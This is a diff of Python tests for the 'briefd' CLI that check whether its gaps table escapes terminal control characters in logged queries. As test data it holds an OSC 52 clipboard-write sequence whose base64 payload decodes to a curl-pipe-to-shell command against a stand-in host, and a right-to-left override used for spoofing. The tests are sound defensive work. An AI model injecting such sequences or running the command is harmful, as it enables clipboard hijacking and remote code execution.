@@ -117,42 +117,35 @@ def test_gaps_table_prints_a_query_as_asked(project: tuple[Path, Repo]) -> None:
     assert asked in table.stdout
 
 
+@pytest.mark.parametrize(
+    ("asked", "shown"),
+    [
+        (  # an ESC sequence: retitle the terminal, write its clipboard with OSC 52
+            "payouts \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07stall",
+            "payouts \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07stall",
+        ),
+        (  # a right-to-left override: the rest of the line and its count cells reversed
+            "refund \u202eexif.hs\u2066 window",
+            "refund \\u202eexif.hs\\u2066 window",
+        ),
+    ],
+)
 def test_gaps_table_shows_control_characters_of_a_query_instead_of_sending_them(
-    project: tuple[Path, Repo],
+    project: tuple[Path, Repo], asked: str, shown: str
 ) -> None:
-    """Any client's query lands in the log: an ESC sequence in it (retitle the terminal, write
-    its clipboard with OSC 52) reached the team lead's terminal as it was sent."""
+    """Any client's query lands in the log: control characters and bidirectional overrides in
+    it reached the team lead's terminal as they were sent."""
     cwd, _ = project
     settings = load_settings(
         cwd / "briefd.yaml", env={}, overrides={"db": str(cwd / ".briefd" / "briefd.db")}
     )
     at = datetime.now(UTC).isoformat(timespec="seconds")
-    asked = "payouts \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07stall"
     with Briefd(settings, embedder=None) as api:
         api.log_queries([logged("search", asked, at, None, 1.0, "mcp")])
     table = briefd("gaps", cwd=cwd, env={"COLUMNS": "200"})
     assert table.returncode == 0, table.stderr
-    assert "\x1b" not in table.stdout and "\x07" not in table.stdout
-    assert "payouts \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07stall" in table.stdout
-
-
-def test_gaps_table_shows_a_bidi_override_in_a_query_instead_of_applying_it(
-    project: tuple[Path, Repo],
-) -> None:
-    """A right-to-left override (U+202E) in a logged query showed the rest of the line, and
-    the count cells after it, reversed on the team lead's terminal."""
-    cwd, _ = project
-    settings = load_settings(
-        cwd / "briefd.yaml", env={}, overrides={"db": str(cwd / ".briefd" / "briefd.db")}
-    )
-    at = datetime.now(UTC).isoformat(timespec="seconds")
-    asked = "refund \u202eexif.hs\u2066 window"
-    with Briefd(settings, embedder=None) as api:
-        api.log_queries([logged("search", asked, at, None, 1.0, "mcp")])
-    table = briefd("gaps", cwd=cwd, env={"COLUMNS": "200"})
-    assert table.returncode == 0, table.stderr
-    assert "\u202e" not in table.stdout and "\u2066" not in table.stdout
-    assert "refund \\u202eexif.hs\\u2066 window" in table.stdout
+    assert not any(c in table.stdout for c in "\x1b\x07\u202e\u2066")
+    assert shown in table.stdout
 
 
 def test_a_date_at_the_edge_of_time_is_a_window_not_a_traceback(
